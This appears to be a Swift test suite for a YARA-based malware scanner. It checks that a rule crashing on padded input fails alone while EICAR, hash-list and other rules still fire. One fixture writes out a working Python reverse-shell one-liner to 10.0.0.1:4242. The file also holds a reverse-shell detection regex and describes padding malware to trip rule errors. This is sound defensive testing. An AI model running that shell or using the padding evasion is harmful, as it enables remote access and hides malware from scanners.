import Foundation
import Glibc
import Synchronization
import Testing
@testable import VigilEngine
import VigilSystem
import VigilTestSupport

/// The regex that shipped in Vigil_Dropper_Reverse_Shell until issue 9: stacked bounded
/// gaps that make libyara 4.2 give up with error 46 (ERROR_TOO_MANY_RE_FIBERS) on 280
/// bytes of "socket.socket(" and on ordinary .pyc files. Kept here as the test's
/// failing rule; the bundled rule no longer uses it.
let explodingRegex = #"/socket\.socket\s*\([^\n]{0,300}\n?[^\n]{0,300}(os\.dup2|subprocess\.call)[^\n]{0,300}\n?[^\n]{0,300}pty\.spawn\s*\(\s*['"]\/bin\/(ba)?sh/"#
/// The attack from issue 9: 20 x "socket.socket(" (280 bytes) appended to malware.
let fiberPadding: [UInt8] = Array(String(repeating: "socket.socket(", count: 20).utf8)

func explodingRule(_ name: String, global: Bool = false) -> String {
    "\(global ? "global " : "")rule \(name) { strings: $py_pty = \(explodingRegex) condition: \(global ? "not " : "")$py_pty }\n"
}

/// Scans with a fresh scanner, optionally with a deadline.
func scanPath(_ path: String, _ signatures: Signatures, limits: ScanLimits = ScanLimits(), deadline: UInt64? = nil) throws -> FileReport {
    let scanner = try FileScanner(signatures: signatures, limits: limits)
    let file = try OpenFile.open(RawPath(path))
    return scanner.scan(file, path: RawPath(path), stat: try file.stat(), deadline: deadline)
}

func sha256Hex(_ bytes: [UInt8]) -> String {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/sha256sum")
    let i = Pipe(), o = Pipe()
    p.standardInput = i
    p.standardOutput = o
    try? p.run()
    i.fileHandleForWriting.write(Data(bytes))
    try? i.fileHandleForWriting.close()
    let out = o.fileHandleForReading.readDataToEndOfFile()
    p.waitUntilExit()
    return String(String(decoding: out, as: UTF8.self).prefix(64))
}

@Suite("Rule errors: one failing rule loses only itself")
struct RuleErrorTests {
    let dir = TempDir()

    /// EICAR rule, a rule that explodes on the padding, a plain rule that also matches
    /// the padding, and a hash list holding the padded file's SHA-256.
    func attackSetup(_ payload: [UInt8]) throws -> (file: String, rules: String, signatures: Signatures) {
        let rules = dir.write("rules/attack.yar", explodingRule("Exploding") + """
            rule Plain_Socket { strings: $s = "socket.socket(" condition: #s >= 20 }
            """)
        let file = dir.write("samples/sample-\(payload.count).bin", payload)
        dir.write("rules/padded.hsb", "\(sha256Hex(payload)):\(payload.count):Padded.Malware\n")
        let s = try Signatures.load([rules, bundledSignatures + "/eicar.yar", dir.sub("rules/padded.hsb")])
        return (file, rules, s)
    }

    @Test("malware + 280 bytes of socket.socket( is still found by the EICAR rule, by the hash list and by every other rule",
          arguments: ["padding after", "padding before", "padding around"])
    func paddingDoesNotHide(_ label: String) throws {
        let payload = switch label {
        case "padding after": eicar + fiberPadding
        case "padding before": fiberPadding + eicar
        default: fiberPadding + eicar + fiberPadding
        }
        let (file, rules, s) = try attackSetup(payload)
        let r = try scanPath(file, s)
        #expect(r.status == .scanned, "\(label)")
        let names = Set(r.findings.map(\.name))
        #expect(names.isSuperset(of: ["Vigil_EICAR_Test_File", "Padded.Malware", "Plain_Socket"]), "\(label): \(names)")
        #expect(!names.contains("Exploding"))
        #expect(r.verdict == .deny)
        guard case let .ruleError(rule, namespace, ruleFile, string, code, message)? = r.problems.first else {
            Issue.record("\(label): no rule error reported: \(r.problems)"); return
        }
        #expect(rule == "Exploding" && namespace == "default" && ruleFile == rules && string == "$py_pty" && code == 46)
        #expect(message.contains("ERROR_TOO_MANY_RE_FIBERS"))
        #expect(r.problems.count == 1)
        #expect(!r.isComplete && !r.isClean, "a file that lost a rule is never clean")
    }

    @Test("a clean file that trips a rule is judged by the others, named, and not clean")
    func cleanButIncomplete() throws {
        let rules = dir.write("clean.yar", explodingRule("Exploding"))
        let s = try Signatures.load([rules, bundledSignatures + "/eicar.yar"])
        let r = try scanPath(dir.write("script.py", Array("#!/usr/bin/python3\n".utf8) + fiberPadding), s)
        #expect(r.findings.isEmpty)
        #expect(r.problems.first?.isRuleError == true)
        #expect(r.status == .scanned && !r.isClean)
    }

    @Test("an ordinary .pyc that tripped the old bundled rule now gets a named rule error, not a failed scan",
          .enabled(if: access("/usr/lib/python3.11/asyncio/__pycache__/base_events.cpython-311.pyc", R_OK) == 0))
    func realPyc() throws {
        let rules = dir.write("old.yar", explodingRule("Old_Reverse_Shell"))
        let s = try Signatures.load([rules, bundledSignatures + "/eicar.yar"])
        let r = try scanPath("/usr/lib/python3.11/asyncio/__pycache__/base_events.cpython-311.pyc", s)
        #expect(r.status == .scanned)
        #expect(r.problems.map(\.kind) == ["rule-error"])
    }

    @Test("several failing rules are each named and dropped; past the limit the YARA pass is given up, hash hits kept")
    func severalRules() throws {
        let rules = dir.write("many/r.yar", explodingRule("A") + explodingRule("B") + explodingRule("C")
                              + "rule Eicarish { strings: $e = \"EICAR-STANDARD\" condition: $e }\n")
        let payload = eicar + fiberPadding
        dir.write("many/h.hsb", "\(sha256Hex(payload)):\(payload.count):Padded.Malware\n")
        let file = dir.write("many.bin", payload)
        let s = try Signatures.load([rules, dir.sub("many/h.hsb")])
        let r = try scanPath(file, s)
        #expect(Set(r.findings.map(\.name)) == ["Eicarish", "Padded.Malware"])
        #expect(Set(r.problems.compactMap { if case let .ruleError(rule, _, _, _, _, _) = $0 { rule } else { nil } }) == ["A", "B", "C"])
        #expect(r.problems.count == 3)

        var limits = ScanLimits()
        limits.maxRuleErrorsPerFile = 2
        let capped = try scanPath(file, s, limits: limits)
        #expect(capped.findings.map(\.name) == ["Padded.Malware"], "the hash hit survives a YARA pass given up")
        #expect(capped.problems.map(\.kind) == ["rule-error", "rule-error", "rule-error", "engine-error"])
        #expect(capped.problems.last?.isError == true && capped.status == .scanned && !capped.isComplete)
    }

    @Test("a lost rule is disabled as yr_rule_disable would: references see it undefined, a lost global rule voids nothing")
    func disabledSemantics() throws {
        let rules = dir.write("g.yar", explodingRule("G", global: true) + """
            rule E { strings: $e = "EICAR-STANDARD" condition: $e }
            rule Needs_G { condition: E and G }
            rule E_or_G { condition: E or G }
            """)
        let s = try Signatures.load([rules])
        let r = try scanPath(dir.write("g.bin", eicar + fiberPadding), s)
        #expect(Set(r.findings.map(\.name)) == ["E", "E_or_G"])
        #expect(r.problems.count == 1 && r.problems.first?.isRuleError == true)
    }

    @Test("the shared rules are never touched: another worker keeps matching the rule one worker lost")
    func noCrossThreadEffect() throws {
        let rules = dir.write("x.yar", explodingRule("Reverse") + "rule Other { strings: $a = \"pty.spawn\" condition: $a }\n")
        let s = try Signatures.load([rules])
        // Fails early (at the padding), then the rescan without the rule reads 4 MiB: a
        // wide window in which a shared-rules design would hide the rule from others.
        let bad = dir.write("bad.py", eicar + fiberPadding + [UInt8](repeating: 0x20, count: 4 << 20))
        // Matches the exploding regex for real, without tripping it.
        let shell = dir.write("shell.py", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                              + "s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")\n")
        let tripper = try FileScanner(signatures: s)
        let checker = try FileScanner(signatures: s)
        let badFile = try OpenFile.open(RawPath(bad)), shellFile = try OpenFile.open(RawPath(shell))
        let badStat = try badFile.stat(), shellStat = try shellFile.stat()
        let a = Handoff(value: (tripper, badFile, badStat)), b = Handoff(value: (checker, shellFile, shellStat))
        // Real threads (the test pool may be busy): the checker scans for as long as the
        // tripper is losing the rule, 40 times.
        struct Counts { var tripperDone = false, errors = 0, checkScans = 0, found = 0 }
        final class Shared: Sendable { let counts = Mutex(Counts()) }
        let shared = Shared()
        let tripping = WorkerThread(name: "test-tripper") {
            for _ in 0..<40 {
                let r = a.value.0.scan(a.value.1, path: RawPath(bad), stat: a.value.2)
                shared.counts.withLock { $0.errors += r.problems.filter(\.isRuleError).count }
            }
            shared.counts.withLock { $0.tripperDone = true }
        }
        let checking = WorkerThread(name: "test-checker") {
            while !shared.counts.withLock({ $0.tripperDone }) {
                let r = b.value.0.scan(b.value.1, path: RawPath(shell), stat: b.value.2)
                let ok = r.findings.contains(where: { $0.name == "Reverse" }) && r.problems.isEmpty
                shared.counts.withLock { $0.checkScans += 1; $0.found += ok ? 1 : 0 }
            }
        }
        tripping.join()
        checking.join()
        let counts = shared.counts.withLock { $0 }
        #expect(counts.errors == 40)
        #expect(counts.checkScans > 0 && counts.found == counts.checkScans, "every scan by the other worker judged the rule")
        // The worker that lost the rule gets it back for its next file.
        let again = tripper.scan(shellFile, path: RawPath(shell), stat: shellStat)
        #expect(Set(again.findings.map(\.name)) == ["Reverse", "Other"])
    }

    @Test("a rescan sees the externals of the file being scanned, not of the file that made the rescanner")
    func externalsInRescans() throws {
        let rules = dir.write("ext.yar", explodingRule("Exploding") + """
            rule Named_B { condition: filename == "b.bin" }
            rule Ext_Bin { condition: extension == "bin" }
            """)
        let s = try Signatures.load([rules])
        let scanner = try FileScanner(signatures: s)
        func scan(_ name: String) throws -> FileReport {
            let p = dir.write(name, eicar + fiberPadding)
            let f = try OpenFile.open(RawPath(p))
            return scanner.scan(f, path: RawPath(p), stat: try f.stat())
        }
        let a = try scan("a.bin")
        #expect(a.findings.map(\.name) == ["Ext_Bin"] && a.problems.first?.isRuleError == true)
        let b = try scan("b.bin")
        #expect(Set(b.findings.map(\.name)) == ["Named_B", "Ext_Bin"] && b.problems.first?.isRuleError == true)
        let c = try scan("c.txt")
        #expect(c.findings.isEmpty && c.problems.first?.isRuleError == true)
    }

    @Test("a file matching 200 rules reports all 200 (the old shim kept 64)")
    func twoHundredRules() throws {
        let text = (0..<200).map { "rule r\($0) { strings: $a = \"needle-\(String(format: "%03d", $0))\" condition: $a }\n" }.joined()
        let rules = dir.write("200.yar", text)
        let payload = (0..<200).map { "needle-\(String(format: "%03d", $0))" }.joined(separator: " ")
        let file = dir.write("200.txt", payload)
        let r = try scanPath(file, try Signatures.load([rules]))
        #expect(r.findings.count == 200)
        #expect(Set(r.findings.map(\.name)) == Set((0..<200).map { "r\($0)" }))
        #expect(r.isComplete)
        if access("/usr/bin/yara", X_OK) == 0 {
            let y = runProgram("/usr/bin/yara", [rules, file])
            let yaraNames = Set(y.stdout.split(separator: "\n").map { String($0.split(separator: " ")[0]) })
            #expect(yaraNames == Set(r.findings.map(\.name)), "same (file, rule) pairs as the yara CLI")
        }
    }

    @Test("a string over libyara's match limit is a warning, as in yara: the scan goes on and other rules match")
    func tooManyMatches() throws {
        let rules = dir.write("tm.yar", "rule Lots { strings: $a = \"AA\" condition: #a > 5 }\n")
        let payload = [UInt8](repeating: 0x41, count: 1_100_000) + eicar
        let file = dir.write("lots.bin", payload)
        let s = try Signatures.load([rules, bundledSignatures + "/eicar.yar"])
        let r = try scanPath(file, s)
        #expect(Set(r.findings.map(\.name)) == ["Lots", "Vigil_EICAR_Test_File"])
        #expect(r.problems == [.tooManyMatches(rule: "Lots", namespace: "default", file: rules, string: "$a")])
        #expect(r.isComplete, "a warning leaves the file judged")
        if access("/usr/bin/yara", X_OK) == 0 {
            let y = runProgram("/usr/bin/yara", [rules, file])
            #expect(y.stderr.contains("too many matches for $a"), "yara warns the same way")
        }
    }
}

/// Moves a thread-affine scanner onto the one thread that uses it.
private struct Handoff<T>: @unchecked Sendable { let value: T }
